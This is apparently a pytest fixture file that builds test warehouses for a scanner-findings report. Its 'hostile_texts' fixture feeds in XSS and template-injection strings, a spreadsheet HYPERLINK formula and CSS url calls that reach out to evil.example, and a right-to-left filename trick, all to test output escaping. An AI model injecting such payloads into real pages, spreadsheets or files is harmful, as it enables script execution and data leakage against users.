"""Warehouses to report on, each built once: the plain path, an empty landing zone, and one whose every text is hostile."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import duckdb
import pytest
import yaml

from transforms.domain.instants import parse_stamp
from transforms.domain.policy import load_policy
from warehouse import publish
from warehouse.connection import connect
from warehouse.home import Home
from warehouse.job import open_job

ROOT = Path(__file__).resolve().parents[2]
PLAIN_PATH = ROOT / "tests" / "golden" / "scenarios" / "plain_path"

#: Each would do something if it were not escaped; `data-pwned` on the page's root says that one did.
PAYLOAD = 'document.documentElement.dataset.pwned="1"'
HOSTILE = (
    f"<script>{PAYLOAD}</script>",
    f"\"><img src=x onerror='{PAYLOAD}'>",
    f"</title></svg></style><script>{PAYLOAD}</script>",
    "{{ 7 * 7 }}{% raw %}",
    f"<a href='javascript:{PAYLOAD}'>x</a><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "\u202eexe.txt turned round",
    "A" * 400,
    "<style>@import 'https://evil.example/x.css'; * { background: url(https://evil.example/y) }</style>",
)
#: Names that a spreadsheet or a browser would run, one that is written from right to left, and one without a place to break it.
HOSTILE_TEAMS = ('=HYPERLINK("https://evil.example/?"&A1, "open")', "<script>", "فريق حماية البيانات " * 20, "Ä" * 300)
HOSTILE_TARGET = f"<svg onload='{PAYLOAD}'>"
HOSTILE_TEAM = f"<b onmouseover='{PAYLOAD}'>team</b>"


@contextmanager
def built(home: Path, landing: Path, as_of: str, policy: Path | None = None) -> Iterator[duckdb.DuckDBPyConnection]:
    """The warehouse of one run, without expectations."""
    layers = [(str(path), path.read_text(encoding="utf-8")) for path in (ROOT / "policy.yaml", policy) if path]
    at = parse_stamp(as_of).us
    with open_job(Home(home), load_policy(*layers), run_id="run", as_of_us=at, now_us=at, code_version="code") as job:
        job.ingest(str(landing))
        job.compute()
        job.build_marts()
        job.finish()
        publish.mark(job.connection, job.stamp.run_id)
    connection = connect(Home(home).warehouse)
    try:
        yield connection
    finally:
        connection.close()


@pytest.fixture(scope="session")
def plain_path(tmp_path_factory: pytest.TempPathFactory) -> Iterator[duckdb.DuckDBPyConnection]:
    """11 handoffs worked by hand, as of Monday 4 May 2026."""
    with built(tmp_path_factory.mktemp("plain"), PLAIN_PATH / "landing", "2026-05-04T12:00:00Z", PLAIN_PATH / "policy.yaml") as connection:
        yield connection


@pytest.fixture(scope="session")
def nothing_landed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[duckdb.DuckDBPyConnection]:
    """A run over an empty landing zone."""
    folder = tmp_path_factory.mktemp("nothing")
    (folder / "landing" / "scans").mkdir(parents=True)
    with built(folder / "home", folder / "landing", "2026-05-04T12:00:00Z") as connection:
        yield connection


@pytest.fixture(scope="session")
def hostile_texts(tmp_path_factory: pytest.TempPathFactory) -> Iterator[duckdb.DuckDBPyConnection]:
    """Titles, targets, teams and file names that would break out of a page; one of them acknowledged, the rest waiting, one target bound to nothing."""
    folder = tmp_path_factory.mktemp("hostile")
    landing = folder / "landing"
    assets = [{"asset_id": "pay", "name": "pay", "owner_team": HOSTILE_TEAM}]
    people = [{"person_id": "secretname", "name": "Secret Name", "email": "secret@example.com", "team": HOSTILE_TEAM, "role": "engineer", "channel": "chat"}]
    owners = [{"match": "asset:pay", "person_id": "secretname", "team": HOSTILE_TEAM}]
    for number, team in enumerate(HOSTILE_TEAMS, 1):
        assets.append({"asset_id": f"asset-{number}", "name": f"asset-{number}", "owner_team": team})
        people.append({**people[0], "person_id": f"secretname{number}", "email": f"secret{number}@example.com", "team": team})
        owners.append({"match": f"asset:asset-{number}", "person_id": f"secretname{number}", "team": team})
    _csv(landing / "assets" / "assets.csv", assets)
    _csv(landing / "people" / "people.csv", people)
    _csv(landing / "people" / "ownership.csv", owners)
    targets = [HOSTILE_TARGET, *["pay"] * (len(HOSTILE) - 1)]
    for number, (title, target) in enumerate(zip(HOSTILE, targets, strict=True)):
        _scan(landing / "scans" / f"s{number}.json", target, f"2026-04-{20 + number}T09:00:00Z", {f"F{number}": title})
    for number in range(1, len(HOSTILE_TEAMS) + 1):
        # As many as a team must have to be shown by itself; captured last, so that the titles above stay those that wait longest.
        _scan(landing / "scans" / f"t{number}.json", f"asset-{number}", "2026-05-01T09:00:00Z", {f"T{number}-{own}": f"Finding {own}" for own in range(10)})
    (landing / "scans" / "<img src=x onerror=alert(1)>.json").write_text('{"findings": [', encoding="utf-8")
    _csv(
        landing / "activity" / "activity.csv",
        [
            {"event_id": "e1", "ref": "F1", "event": "acknowledged", "actor": "secretname", "occurred_at": "2026-05-04T10:00:00Z"},
            {"event_id": "e2", "ref": "F2", "event": "acknowledged", "actor": "secretname", "occurred_at": "2026-04-30T10:00:00Z"},
        ],
    )
    with built(folder / "home", landing, "2026-05-04T12:00:00Z") as connection:
        yield connection


@pytest.fixture(scope="session")
def one_finding(tmp_path_factory: pytest.TempPathFactory) -> Iterator[duckdb.DuckDBPyConnection]:
    """One critical finding on a target that no register knows."""
    folder = tmp_path_factory.mktemp("one")
    finding = {"title": "T", "severity": "Critical", "description": "d", "unique_id_from_tool": "F", "vuln_id_from_tool": "R"}
    path = folder / "landing" / "scans" / "s.json"
    path.parent.mkdir(parents=True)
    path.write_text(json.dumps({"findings": [finding]}), encoding="utf-8")
    path.with_name("s.json.meta.yaml").write_text(yaml.safe_dump({"target": "pay", "captured_at": "2026-05-04T09:00:00Z", "scanner": "one"}), encoding="utf-8")
    with built(folder / "home", folder / "landing", "2026-05-06T12:00:00Z") as connection:
        yield connection


def _scan(path: Path, target: str, at: str, titles: dict[str, str]) -> None:
    """Findings by the scanner's own id and title."""
    found = [{"title": title, "severity": "High", "description": "d", "unique_id_from_tool": own, "vuln_id_from_tool": f"R{own}"} for own, title in titles.items()]
    path.parent.mkdir(exist_ok=True)
    path.write_text(json.dumps({"findings": found}), encoding="utf-8")
    path.with_name(f"{path.name}.meta.yaml").write_text(yaml.safe_dump({"target": target, "captured_at": at, "scanner": "one"}), encoding="utf-8")


def _csv(path: Path, rows: list[dict[str, str]]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
